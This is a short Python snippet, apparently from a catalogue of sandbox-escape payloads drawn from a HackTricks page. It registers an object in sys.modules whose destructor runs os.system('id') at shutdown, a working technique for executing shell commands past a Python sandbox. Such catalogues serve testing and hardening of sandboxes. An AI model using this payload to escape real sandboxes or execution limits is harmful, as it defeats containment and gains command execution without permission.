# Source: https://book.hacktricks.xyz/generic-methodologies-and-resources/python/bypass-python-sandboxes (sys.modules['pwnd'] = X(); sys.exit())
# Family: sys-modules
# What: plants an object in sys.modules whose __del__ runs at shutdown
import sys

class X:
    def __init__(self):
        self.run = __import__("os").system

    def __del__(self):
        self.run("id")

sys.modules["pwnd"] = X()
sys.exit()
